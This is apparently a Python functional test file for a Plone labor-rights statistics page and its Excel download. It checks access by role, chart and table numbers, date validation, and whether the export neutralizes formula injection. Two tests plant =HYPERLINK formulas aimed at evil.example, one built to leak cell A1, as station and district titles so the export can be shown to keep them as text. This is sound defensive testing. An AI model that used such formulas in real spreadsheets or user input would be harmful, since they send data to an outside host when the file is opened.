"""The statistics page and its Excel download through a browser: the city sees every district,
a district administrator theirs only, other staff and the public nothing; bad dates are
answered at the field; ECharts is loaded by this page only."""

from AccessControl import Unauthorized
from io import BytesIO
from openpyxl import load_workbook
from plone import api
from plone.app.testing import setRoles
from plone.app.testing import TEST_USER_ID
from plone.testing.zope import Browser
from suizhou.laborrights.testing import FUNCTIONAL_TESTING
from tests.helpers import browser_for
from tests.helpers import chinese_site
from tests.helpers import make_user
from tests.statistics_helpers import statistics_cases

import json
import lxml.html
import transaction
import unittest


Q1 = "start=2026-01-01&end=2026-03-31"


class TestStatisticsPage(unittest.TestCase):
    layer = FUNCTIONAL_TESTING

    def setUp(self):
        self.portal = self.layer["portal"]
        chinese_site()
        setRoles(self.portal, TEST_USER_ID, ["Manager"])
        self.cases = statistics_cases()
        make_user("city", groups=["city_admins"])
        make_user("admin_zengdu", groups=["district_admins_zengdu"])
        make_user("staff_a", groups=["intake_clerks_zengdu"])
        transaction.commit()
        self.url = self.portal.absolute_url()

    def page(self, username, query=Q1):
        browser = browser_for(self.layer["app"], username)
        browser.open(f"{self.url}/@@statistics?{query}")
        return browser, lxml.html.fromstring(browser.contents)

    def rows(self, doc, table_id):
        table = doc.get_element_by_id(f"table-{table_id}")
        return {
            row.xpath("string(th)").strip("　 "): [td.text_content().strip() for td in row.xpath("td")]
            for row in table.xpath(".//tbody/tr")
        }

    def workbook(self, username, query=Q1):
        browser = browser_for(self.layer["app"], username)
        browser.open(f"{self.url}/@@statistics.xlsx?{query}")
        self.assertEqual(
            browser.headers["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        return load_workbook(BytesIO(browser.contents))

    def test_the_city_sees_every_district(self):
        browser, doc = self.page("city")
        self.assertEqual(doc.get_element_by_id("statistics-period").text, "2026-01-01 至 2026-03-31（按北京时间）")
        official = self.rows(doc, "official")
        self.assertEqual(official["上期未结案件数"], ["1"])
        self.assertEqual(official["仲裁结案率"], ["33.3%"])
        self.assertEqual(self.rows(doc, "mediation")["调解成功率"], ["60.0%"])
        districts = self.rows(doc, "districts")
        self.assertEqual(districts["广水市"][:2], ["1", "0"])
        self.assertEqual(self.rows(doc, "ranking")["曾都区"], ["5", "—", "8", "—"])
        self.assertIn("调解成功率 =（达成协议 + 和解）÷ 调解结案数", doc.text_content())
        self.assertEqual(browser.headers["Cache-Control"], "private, no-store")

    def test_a_chart_has_the_same_numbers_as_its_table(self):
        _browser, doc = self.page("city")
        chart = doc.xpath("//section[@id='table-months']//div[@class='statistics-chart']")[0]
        data = json.loads(chart.get("data-chart"))
        self.assertEqual(data["labels"], ["2026-01", "2026-02", "2026-03"])
        self.assertEqual([s["data"] for s in data["series"]], [[3, 4, 3], [0, 2, 5]])
        self.assertEqual(self.rows(doc, "months")["2026-02"], ["4", "2"])
        scripts = [s.get("src") for s in doc.xpath("//script[@src]")]
        self.assertTrue(any(src.endswith("/vendor/echarts/echarts.min.js") for src in scripts))

    def test_the_public_pages_do_not_load_echarts(self):
        browser = Browser(self.layer["app"])
        browser.open(self.url)
        self.assertNotIn("echarts", browser.contents)

    def test_the_excel_download_holds_the_page_numbers(self):
        book = self.workbook("city")
        districts = {row[0].value: [c.value for c in row[1:3]] for row in book["按区县"].iter_rows(min_row=2)}
        self.assertEqual(districts["曾都区"], [9, 7])
        self.assertEqual(districts["广水市"], [1, 0])

    def formula_cells(self, formula):
        book = self.workbook("city")
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        shown = [cell for cell in cells if isinstance(cell.value, str) and cell.value.endswith(formula)]
        return shown, [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]

    def test_a_station_title_that_looks_like_a_formula_stays_text_in_excel(self):
        # A district administrator may rename their district's stations (Editor).
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
        station = self.portal["stations"]["zengdu"]["zengdu-center"]
        station.title = formula
        station.reindexObject()
        transaction.commit()
        shown, formulas = self.formula_cells(formula)
        self.assertTrue(shown)  # the station's row labels
        self.assertEqual({cell.data_type for cell in shown}, {"s"})
        self.assertEqual(formulas, [])

    def test_a_district_title_that_looks_like_a_formula_stays_text_in_excel(self):
        formula = '=HYPERLINK("http://evil.example/","曾都区")'
        record = "suizhou.laborrights.vocabularies.districts"
        lines = api.portal.get_registry_record(record)
        api.portal.set_registry_record(record, tuple(line.replace("曾都区", formula) for line in lines))
        transaction.commit()
        shown, formulas = self.formula_cells(formula)
        self.assertIn("'" + formula, [cell.value for cell in shown])  # written as typed, as text
        self.assertEqual({cell.data_type for cell in shown}, {"s"})
        self.assertEqual(formulas, [])

    def test_a_district_administrator_sees_their_district_only(self):
        _browser, doc = self.page("admin_zengdu")
        self.assertEqual(list(self.rows(doc, "districts")), ["曾都区"])
        self.assertEqual(self.rows(doc, "inspection")["举报投诉案件数"], ["1"])  # not 广水市's I2
        options = doc.xpath("//select[@name='district']/option/@value")
        self.assertEqual(options, ["", "zengdu"])
        book = self.workbook("admin_zengdu")
        self.assertNotIn("广水市", [row[0].value for row in book["按区县"].iter_rows()])

    def test_another_district_is_refused(self):
        for path in ("@@statistics", "@@statistics.xlsx"):
            browser = browser_for(self.layer["app"], "admin_zengdu")
            with self.assertRaises(Unauthorized):
                browser.open(f"{self.url}/{path}?{Q1}&district=guangshui")

    def test_other_staff_and_the_public_are_refused(self):
        for path in ("@@statistics", "@@statistics.xlsx"):
            with self.assertRaises(Unauthorized):
                browser_for(self.layer["app"], "staff_a").open(f"{self.url}/{path}")
            anonymous = Browser(self.layer["app"])
            anonymous.handleErrors = False
            with self.assertRaises(Unauthorized):
                anonymous.open(f"{self.url}/{path}")

    def test_a_bad_date_is_answered_at_the_field_and_kept(self):
        _browser, doc = self.page("city", "start=2026-13-01&end=2026-03-31")
        self.assertEqual(doc.get_element_by_id("error-start").text, "请按“年-月-日”填写日期，例如 2026-01-31。")
        self.assertEqual(doc.get_element_by_id("statistics-start").get("value"), "2026-13-01")
        _browser, doc = self.page("city", "start=2026-04-01&end=2026-03-31")
        self.assertEqual(doc.get_element_by_id("error-end").text, "开始日期不能晚于结束日期。")
